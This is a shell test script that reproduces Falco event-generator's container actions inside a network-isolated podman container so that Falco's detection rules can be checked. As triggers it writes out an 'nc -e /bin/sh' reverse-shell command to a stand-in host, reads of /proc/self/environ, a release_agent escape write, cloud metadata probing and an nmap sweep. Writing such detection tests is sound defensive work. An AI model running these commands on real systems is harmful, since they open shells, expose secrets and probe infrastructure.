#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Falco's event-generator (github.com/falcosecurity/event-generator,
# Apache-2.0): its container-only actions in events/syscall/*.go (each skips
# outside a container), reproduced in shell inside one privileged podman
# container (runc, --network none) whose image is busybox-static and
# /usr/local/bin/event-generator (tests/e2e/event_generator_calls.c: the
# calls the generator makes itself). falco_container_actions_test runs it
# under `vigil run -r <Falco's rule files>` and asserts the rule of each
# action (the table in falco_actions_table.h, documented in docs/rules.md).
# - programs are run by path (/bin/nc, as the generator's exec.LookPath
#   gives them): busybox's shell and its timeout run an applet named without
#   a slash as /proc/self/exe, whose process name is "exe";
# - tools the image lacks (nmap, scp, debugfs, apt-get) are symlinks to
#   busybox under the tool's name: the exec happens, busybox answers "applet
#   not found" (the generator ignores the failure of all four);
# - network: the container's own network namespace, loopback only;
#   169.254.169.254 is put on its lo with a listener behind it.
# The generator's random name suffixes are TAG here, so the test finds them.
# Usage: falco_container_actions.sh TAG
set -u
t=$1
gen=/usr/local/bin/event-generator
say() { echo "falco container action: $*"; }
run() { "$@" >/dev/null 2>&1 </dev/null || say "($* exited $?)"; }

# netcat_remote_code_execution_in_container.go: nc -e /bin/sh example.com 22, for 1 s at most
run /bin/timeout 1 /bin/nc -e /bin/sh example.com 22

# packet_socket_created_in_container.go: socket(AF_PACKET, SOCK_RAW, ETH_P_ALL)
run $gen packet_socket

# debugfs_launched_in_privilleged_container.go: debugfs -V in new mount and user namespaces
run $gen newns_newuser debugfs -V

# detect_release_agent_file_container_escapes.go: sh -c "echo 'hello world' > release_agent" (cwd /)
(cd / && run /bin/sh -c "echo 'hello world' > release_agent")

# drop_and_execute_new_binary_in_container.go: the ls binary written to
# /bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-*
# (mode 0755), run, removed
f=/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-$t
run $gen write_file "$f" 0755 /bin/ls
run "$f"
rm -f "$f"

# change_namespace_privileges_via_unshare.go: unshare without arguments, as
# root without CAP_SYS_ADMIN (the generator skips in a privileged container:
# it wants an unprivileged one's capability set)
run $gen no_sys_admin /bin/unshare

# contact_ec2_instance_metadata_service_from_container.go: nc 169.254.169.254 80, for 1 s at most
/bin/ip link set lo up
/bin/ip addr add 169.254.169.254/32 dev lo
/bin/nc -l -p 80 >/dev/null 2>&1 </dev/null &
l=$!
i=0
while ! /bin/netstat -ltn 2>/dev/null | /bin/grep -q ':80 '; do
  i=$((i + 1))
  [ $i -lt 100 ] || { say "listener on port 80 did not start"; break; }
  /bin/sleep 0.05
done
run /bin/timeout 1 /bin/nc 169.254.169.254 80
kill $l 2>/dev/null
wait $l 2>/dev/null

# launch_package_management_process_in_container.go: apt-get --version (no apk here)
run /usr/bin/apt-get --version

# launch_suspicious_network_tool_in_container.go: nmap -sn 192.168.1.0/24, for 1 s at most
run /bin/timeout 1 /usr/bin/nmap -sn 192.168.1.0/24

# launch_remote_file_copy_tools_in_container.go: scp
run /usr/bin/scp

# mount_launched_in_privileged_container.go: mount -o in new mount and user namespaces
run $gen newns_newuser mount -o

# launch_ingress_remote_file_copy_tools_in_container.go: wget -V
run /bin/wget -V

# read_environment_variable_from_proc_files.go: cat /proc/self/environ
run /bin/cat /proc/self/environ

# kubernetes_client_tool_launched_in_container.go: no kubectl in PATH, so a
# script written as TMP/kubectl (mode 0755) is run
k=$(/bin/mktemp -d /tmp/falco-event-generator-syscall-KubernetesClientToolLaunchedInContainer-XXXXXX)
printf "#!/bin/sh\n\necho 'hello world'\n" | $gen write_file "$k/kubectl" 0755 - || say "(write_file kubectl exited $?)"
run "$k/kubectl"
rm -rf "$k"

# container_drift_detected_chmod.go: a temp file (os.CreateTemp), chmod 0755, removed
f=$(/bin/mktemp /tmp/falco-event-generator-syscall-ContainerDriftDetectedChmod-XXXXXX)
run /bin/chmod 755 "$f"
rm -f "$f"

# container_drift_detected_open_create.go: an empty file created with mode 0755, removed
f=/tmp/falco-event-generator-syscall-ContainerDriftDetectedOpenCreate-$t
run $gen write_file "$f" 0755 /dev/null
rm -f "$f"

# modify_container_entrypoint.go: /proc/self/fd/1 opened for writing (stdout
# as podman gives it, not redirected)
$gen open_write /proc/self/fd/1 || say "(open_write exited $?)"

# decoding_payload_in_container.go: echo with the payload, "|", base64, -d as
# its arguments (exec.Command: no shell, no pipe)
run /bin/echo ZGVjb2RlZF9ieV9ldmVudC1nZW5lcmF0b3I= '|' base64 -d
exit 0
